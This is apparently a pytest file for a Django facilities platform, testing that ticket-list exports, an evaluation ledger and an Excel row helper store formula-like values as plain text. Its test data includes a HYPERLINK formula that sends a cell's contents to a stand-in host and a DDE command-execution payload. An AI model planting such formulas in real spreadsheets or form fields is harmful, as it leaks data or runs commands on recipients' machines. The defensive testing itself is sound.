"""Text that a spreadsheet would run as a formula is exported as text, in every workbook the
platform writes (list exports, the evaluation ledger; the import error report is tested with
the imports)."""

import io

from django.urls import reverse
from openpyxl import load_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")'


def test_a_tenants_formula_subject_is_text_in_the_staff_export(client, world):
    from parkops.service import services as service

    service.submit_ticket(
        by=world.tenant_a, kind="enquiry", subject=EVIL, content="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    client.force_login(world.admin)
    export = client.get(reverse("service:ticket_list"), {"export": "xlsx"})
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert cells[EVIL].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_helper_keeps_every_dangerous_prefix_as_text():
    from openpyxl import Workbook

    from parkops.core.excel import append_row

    values = [EVIL, "+1", "-1+2", "@A1", "\t=1", "\r=1", "plain", 3, "a\x00b"]
    for write_only in (True, False):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("x")
        append_row(ws, values)
        out = io.BytesIO()
        wb.save(out)
        row = next(load_workbook(io.BytesIO(out.getvalue()))["x"].iter_rows())
        assert [c.value for c in row] == [*values[:8], "ab"]
        assert [c.data_type for c in row] == ["s"] * 7 + ["n", "s"]


def test_the_evaluation_ledger_writes_an_experts_formula_as_text(world):
    from parkops.evaluation import reports
    from parkops.evaluation import services as evaluation
    from parkops.evaluation.tests.helpers import make_project

    project = make_project(world)
    evaluation.add_expert(
        project=project, user=world.assessor, by=world.admin, affiliation=EVIL, is_lead=True
    )
    sheet = load_workbook(io.BytesIO(reports.ledger_xlsx(project, world.admin)))["专家组"]
    cell = sheet.cell(2, 3)
    assert (cell.value, cell.data_type) == (EVIL, "s")
